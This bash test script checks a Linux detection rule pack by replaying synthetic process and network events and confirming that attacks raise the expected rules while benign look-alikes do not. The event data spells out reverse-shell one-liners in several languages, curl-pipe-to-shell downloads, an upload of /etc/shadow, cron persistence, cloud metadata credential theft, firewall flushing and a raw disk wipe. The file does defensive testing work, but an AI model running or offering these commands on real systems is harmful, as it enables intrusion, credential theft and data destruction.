#!/usr/bin/env bash
# The rule pack (rules/): it loads with no warning and every rule has the pack's metadata; and it
# detects attack classes that no Atomic Red Team test here exercises, but not their benign
# look-alikes: reverse shells, web shells, renamed directory enumeration tools, fileless
# execution, miners, download-and-execute, unexpected root, ptrace... Each case is one ECS event
# shaped like the real sensor's (process.args, parent, Ext fields) replayed through `mamori scan`;
# an attack must raise the named rule, a look-alike nothing at medium or higher. Needs no root.
source "$(dirname "$0")/lib/common.bash"
source "$(dirname "$0")/lib/detect.bash"
[ -x "$MAMORI" ] || skip "no $MAMORI (build the mamori target)"
[ -d "$RULES" ] || fail "no rule pack at $RULES"

# The pack loads whole, without a single warning.
"$MAMORI" rules check --warnings "$RULES" >"$WORK/check.log" 2>&1 || { cat "$WORK/check.log"; fail "rules check"; }
if grep -q "warning" "$WORK/check.log"; then cat "$WORK/check.log"; fail "rules check warnings"; fi
n_files=$(find "$RULES" -name '*.yml' | wc -l)
echo "ok: $(tail -1 "$WORK/check.log") from $n_files files"

# Every rule carries the pack's metadata (docs/rules.md, "Adding a rule").
if python3 -c 'import yaml' 2>/dev/null; then
  python3 - "$RULES" <<'PY' || fail "rule metadata"
import pathlib, re, sys, uuid, yaml
root = pathlib.Path(sys.argv[1])
need = ['title', 'id', 'status', 'description', 'author', 'date', 'tags', 'falsepositives', 'level']
tactics = {'reconnaissance', 'resource-development', 'initial-access', 'execution', 'persistence',
           'privilege-escalation', 'stealth', 'defense-impairment', 'defense-evasion',
           'credential-access', 'discovery', 'lateral-movement', 'collection',
           'command-and-control', 'exfiltration', 'impact'}
bad, seen = [], set()
for p in sorted(root.rglob('*.yml')):
    docs = list(yaml.safe_load_all(p.read_text(encoding='utf-8')))
    for d in docs:
        where = '%s: %s' % (p.relative_to(root), d.get('title'))
        keys = need + (['correlation'] if 'correlation' in d else ['logsource', 'detection'])
        bad += ['%s: missing %s' % (where, k) for k in keys if k not in d]
        if not (d.get('mamori') or {}).get('advice'):
            bad.append(where + ': no mamori.advice')
        try:
            uuid.UUID(str(d.get('id')))
        except ValueError:
            bad.append(where + ': id is not a UUID')
        if d.get('id') in seen:
            bad.append(where + ': duplicate id')
        seen.add(d.get('id'))
        tags = d.get('tags') or []
        tac = [t[7:] for t in tags if t.startswith('attack.') and not re.match(r'attack\.t\d', t)]
        if not tac or not any(re.match(r'attack\.t\d{4}(\.\d{3})?$', t) for t in tags):
            bad.append(where + ': needs attack.<tactic> and attack.tNNNN tags')
        bad += ['%s: unknown tactic %s' % (where, t) for t in tac if t not in tactics]
        ls = d.get('logsource')
        if ls is not None and (ls.get('product') != 'linux' or not ls.get('category')):
            bad.append(where + ': logsource must be {product: linux, category: ...}')
    main_tactics = [t[7:] for t in docs[-1].get('tags') or [] if not re.match(r'attack\.t\d', t)]
    if p.parent.name not in main_tactics:
        bad.append('%s: folder is not one of the rule\'s tactics' % p.relative_to(root))
print('\n'.join(bad) if bad else 'ok: rule metadata')
sys.exit(1 if bad else 0)
PY
else
  echo "note: python3 has no yaml module; rule metadata not checked"
fi

python3 - "$WORK/cases.jsonl" "$WORK/events.jsonl" <<'PY'
import json, sys
cases_path, events_path = sys.argv[1:3]

def proc(args, exe, parent_exe='/usr/bin/bash', parent_cmd='bash', **extra):
    p = {'pid': 4242, 'executable': exe, 'name': exe.rsplit('/', 1)[-1], 'args': args,
         'args_count': len(args), 'command_line': ' '.join(args), 'working_directory': '/root',
         'parent': {'pid': 4241, 'executable': parent_exe, 'name': parent_exe.rsplit('/', 1)[-1],
                    'command_line': parent_cmd}}
    p.update(extra)
    return p

def ex(args, exe, **kw):
    return {'event': {'kind': 'event', 'category': ['process'], 'type': ['start'], 'action': 'exec'},
            'process': proc(args, exe, **kw), 'user': {'id': '0', 'name': 'root'}}

def other(action, category, typ, process, **fields):
    e = {'event': {'kind': 'event', 'category': [category], 'type': [typ], 'action': action},
         'process': process}
    e.update(fields)
    return e

# (expected rule title, or None for "nothing at medium or higher"), event
cases = [
    # Reverse shells.
    ('Reverse shell through /dev/tcp or /dev/udp',
     ex(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], '/usr/bin/bash')),
    ('Shell bound to a network client (netcat, telnet, openssl)',
     ex(['nc', '-e', '/bin/sh', '203.0.113.5', '4444'], '/usr/bin/nc.traditional')),
    ('Shell bound to a network client (netcat, telnet, openssl)',
     ex(['sh', '-c', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 >/tmp/f'], '/usr/bin/dash')),
    ('Shell served over the network with socat',
     ex(['socat', 'tcp:203.0.113.5:4444', "exec:'bash -li',pty,stderr,setsid"], '/usr/bin/socat')),
    ('Reverse shell one-liner in a script interpreter',
     ex(['python3', '-c', "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"], '/usr/bin/python3.11')),
    ('Reverse shell one-liner in a script interpreter',
     ex(['perl', '-e', "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('203.0.113.5')));open(STDIN,'>&S');exec('/bin/sh -i');"], '/usr/bin/perl')),
    ('Reverse shell one-liner in a script interpreter',
     ex(['php', '-r', "$s=fsockopen('203.0.113.5',4444);exec('/bin/sh -i <&3 >&3 2>&3');"], '/usr/bin/php8.2')),
    ('Reverse shell one-liner in a script interpreter',
     ex(['ruby', '-rsocket', '-e', "f=TCPSocket.open('203.0.113.5',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)"], '/usr/bin/ruby3.1')),
    ('Shell process connected to a remote address',
     other('connection_attempted', 'network', 'connection', proc(['bash'], '/usr/bin/bash'),
           destination={'ip': '203.0.113.5', 'port': 4444}, source={'ip': '192.0.2.2', 'port': 40000})),
    (None, other('connection_attempted', 'network', 'connection', proc(['bash'], '/usr/bin/bash'),
                 destination={'ip': '127.0.0.1', 'port': 8080}, source={'ip': '127.0.0.1', 'port': 40000})),
    # Web shells.
    ('Web server or application server started a shell',
     ex(['sh', '-c', 'id'], '/usr/bin/dash', parent_exe='/usr/sbin/php-fpm8.2', parent_cmd='php-fpm: pool www')),
    ('Web server or application server started a shell',
     ex(['/bin/bash', '-c', 'uname -a'], '/usr/bin/bash', parent_exe='/usr/lib/jvm/java-17/bin/java',
        parent_cmd='java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start')),
    ('Web or application server ran a reconnaissance command',
     ex(['whoami'], '/usr/bin/whoami', parent_exe='/usr/sbin/apache2', parent_cmd='/usr/sbin/apache2 -k start')),
    ('Web or application server ran a reconnaissance command',
     ex(['/bin/sh', '-c', 'whoami; cat /etc/passwd'], '/usr/bin/dash', parent_exe='/usr/bin/node', parent_cmd='node server.js')),
    (None, ex(['sh', '-c', 'node-gyp rebuild'], '/usr/bin/dash', parent_exe='/usr/bin/node', parent_cmd='node /usr/bin/npm install')),
    # Directory enumeration, named and renamed.
    ('LDAP or RPC directory enumeration arguments',
     ex(['ldapsearch', '-x', '-H', 'ldap://10.0.0.1', '-b', 'dc=corp,dc=local', '(objectClass=user)'], '/usr/bin/ldapsearch')),
    ('Directory enumeration arguments from a renamed or unknown binary',
     ex(['/var/tmp/q', '-x', '-H', 'ldap://10.0.0.1', '-b', 'dc=corp,dc=local'], '/var/tmp/q')),
    ('Directory enumeration arguments from a renamed or unknown binary',
     ex(['/usr/local/bin/rc', '-U', '', '-N', '10.0.0.1', '-c', 'enumdomusers'], '/usr/local/bin/rc')),
    ('Active Directory enumeration tool run',
     ex(['python3', '/opt/ldapdomaindump/ldapdomaindump.py', '-u', 'CORP\\u', '10.0.0.1'], '/usr/bin/python3.11')),
    ('Active Directory enumeration tool run',
     ex(['bloodhound-python', '-d', 'corp.local', '-u', 'u', '--dc-ip', '10.0.0.1', '-c', 'All'], '/usr/local/bin/bloodhound-python')),
    # Fileless, temporary directories, preload.
    ('Program executed from an anonymous memory file (memfd)',
     ex(['x'], '/memfd:payload (deleted)', **{'Ext': {'memfd': True}})),
    (None, ex(['runc', 'init'], '/memfd:runc_cloned:/proc/self/exe (deleted)', **{'Ext': {'memfd': True}})),
    ('Program executed from an already deleted file',
     ex(['kdevtmpfsi'], '/tmp/kdevtmpfsi (deleted)', **{'Ext': {'deleted_executable': True}})),
    ('Program or script run from shared memory (/dev/shm)', ex(['/dev/shm/.x/run'], '/dev/shm/.x/run')),
    ('Hidden program run from a temporary directory', ex(['/tmp/.ICE-unix/.k/bot'], '/tmp/.ICE-unix/.k/bot')),
    ('Anonymous memory file created by a script interpreter or shell',
     other('memfd_create', 'process', 'creation', proc(['python3', '-c', 'x'], '/usr/bin/python3.11'), file={'name': ''})),
    ('Program started with a library preloaded from a temporary directory',
     ex(['bash', '-c', 'LD_PRELOAD=/dev/shm/libx.so sshd'], '/usr/bin/bash')),
    (None, ex(['bash', '-c', 'LD_LIBRARY_PATH=/home/dev/.local/lib ./app'], '/usr/bin/bash')),
    ('/etc/ld.so.preload written',
     other('creation', 'file', 'creation', {'pid': 4242}, file={'path': '/etc/ld.so.preload'})),
    # Downloads, miners, tunnels.
    ('Download piped into a shell or run right away',
     ex(['sh', '-c', 'curl -fsSL http://203.0.113.9/i.sh | bash'], '/usr/bin/dash')),
    ('Download piped into a shell or run right away',
     ex(['bash', '-c', 'wget -q http://203.0.113.9/m -O /tmp/m; chmod +x /tmp/m; /tmp/m'], '/usr/bin/bash')),
    (None, ex(['curl', '-fsSL', '-o', 'release.tar.gz', 'https://example.org/release.tar.gz'], '/usr/bin/curl')),
    ('Cryptocurrency miner started',
     ex(['/var/tmp/.x/kworker', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '--donate-level', '1'], '/var/tmp/.x/kworker')),
    ('DNS lookup of a cryptocurrency mining pool',
     other('dns_query', 'network', 'protocol', proc(['xmrig'], '/tmp/xmrig'), dns={'question': {'name': 'pool.supportxmr.com', 'type': 'A'}})),
    ('DNS lookup of an out-of-band interaction or DNS logging service',
     other('dns_query', 'network', 'protocol', proc(['java'], '/usr/bin/java'), dns={'question': {'name': 'abc123.oast.pro', 'type': 'A'}})),
    ('Tunnelling or reverse proxy tool run', ex(['./chisel', 'client', '203.0.113.5:8000', 'R:socks'], '/tmp/chisel')),
    # Kernel, privileges, process access.
    ('Kernel module inserted from outside /lib/modules', ex(['insmod', '/tmp/rk.ko'], '/usr/sbin/insmod')),
    ('Kernel module loaded', other('load_module', 'driver', 'info', proc(['insmod', '/tmp/rk.ko'], '/usr/sbin/insmod'))),
    ('Process became root outside the usual elevation programs',
     other('uid_change', 'process', 'change',
           proc(['/tmp/x'], '/tmp/x', user={'id': '0'}, real_user={'id': '0'},
                Ext={'previous': {'user': {'id': '0'}, 'real_user': {'id': '1000'}}}))),
    (None, other('uid_change', 'process', 'change',
                 proc(['sudo', 'true'], '/usr/bin/sudo', user={'id': '0'}, real_user={'id': '0'},
                      Ext={'previous': {'user': {'id': '0'}, 'real_user': {'id': '1000'}}}))),
    ('Process attached to another process with ptrace',
     other('ptrace', 'process', 'access', proc(['/tmp/inj', '812'], '/tmp/inj', Ext={'target': {'pid': 812}, 'ptrace': {'request': 16}}))),
    (None, other('ptrace', 'process', 'access', proc(['gdb', '-p', '812'], '/usr/bin/gdb', Ext={'target': {'pid': 812}, 'ptrace': {'request': 16}}))),
    ('Container escape technique used', ex(['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'], '/usr/bin/nsenter')),
    # Credentials.
    ('SSH private key read or copied by a non-SSH program',
     ex(['cp', '/home/alice/.ssh/id_ed25519', '/tmp/k'], '/usr/bin/cp')),
    (None, ex(['cat', '/home/alice/.ssh/id_ed25519.pub'], '/usr/bin/cat')),
    ('Instance metadata service asked for credentials',
     ex(['curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/role'], '/usr/bin/curl')),
    ('Credential or system file uploaded with curl or wget',
     ex(['curl', '-F', 'f=@/etc/shadow', 'http://203.0.113.9/u'], '/usr/bin/curl')),
    # Persistence and evasion without atomics here.
    ('User crontab replaced from a file or standard input', ex(['crontab', '/tmp/persistevil'], '/usr/bin/crontab')),
    (None, ex(['crontab', '-l'], '/usr/bin/crontab')),
    ('Cron entry that downloads or opens a shell',
     ex(['bash', '-c', '(crontab -l; echo "* * * * * curl -s http://203.0.113.9/x | sh") | crontab -'], '/usr/bin/bash')),
    ('Job scheduled with at or batch', ex(['at', 'now', '+', '1', 'minute'], '/usr/bin/at')),
    ('System logging service stopped or disabled', ex(['systemctl', 'stop', 'rsyslog'], '/usr/bin/systemctl')),
    (None, ex(['systemctl', 'restart', 'nginx'], '/usr/bin/systemctl')),
    ('Host firewall disabled or flushed', ex(['iptables', '-F'], '/usr/sbin/iptables')),
    ('Security or monitoring agent stopped, or MAC enforcement disabled', ex(['setenforce', '0'], '/usr/sbin/setenforce')),
    ('Sudoers configuration modified outside visudo',
     other('creation', 'file', 'creation', proc(['bash'], '/usr/bin/bash'), file={'path': '/etc/sudoers.d/99-x'})),
    ('Raw disk overwritten', ex(['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M'], '/usr/bin/dd')),
]
with open(cases_path, 'w') as c, open(events_path, 'w') as e:
    for i, (want, ev) in enumerate(cases):
        ev['@timestamp'] = '2026-01-01T00:00:%02d.000000000Z' % (i % 60)
        ev['event']['sequence'] = i + 1
        ev['host'] = {'name': 'replay'}
        ev['process'].setdefault('entity_id', 'case-%d' % i)
        c.write(json.dumps({'line': i + 1, 'want': want}) + '\n')
        e.write(json.dumps(ev) + '\n')
PY

"$MAMORI" scan --rules "$RULES" --output jsonl "$WORK/events.jsonl" >"$WORK/alerts.jsonl" 2>"$WORK/scan.log" ||
  { cat "$WORK/scan.log"; fail "mamori scan exited $?"; }
python3 - "$WORK/cases.jsonl" "$WORK/alerts.jsonl" <<'PY' || fail "attack classes"
import collections, json, sys
LEVELS = ['informational', 'low', 'medium', 'high', 'critical']
by_seq = collections.defaultdict(list)
for line in open(sys.argv[2], encoding='utf-8'):
    a = json.loads(line)
    if a['rule'].get('ruleset') not in ('sigma', 'correlation'):
        continue  # the built-in behaviour detections of mamori scan are not the pack
    seq = a['mamori']['events'][0]['event']['sequence']
    by_seq[seq].append(a)
bad = 0
for line in open(sys.argv[1], encoding='utf-8'):
    c = json.loads(line)
    got = by_seq.get(c['line'], [])
    if c['want']:
        ok = any(a['rule']['name'] == c['want'] for a in got)
        print('%-4s case %2d: %s' % ('ok' if ok else 'MISS', c['line'], c['want']))
    else:
        loud = ['%s (%s)' % (a['rule']['name'], a['rule']['severity']) for a in got
                if LEVELS.index(a['rule']['severity']) >= 2]
        ok = not loud
        print('%-4s case %2d: benign look-alike%s' % ('ok' if ok else 'FP', c['line'], '' if ok else ': ' + '; '.join(loud)))
    bad += not ok
sys.exit(1 if bad else 0)
PY
echo "ok: attack classes"
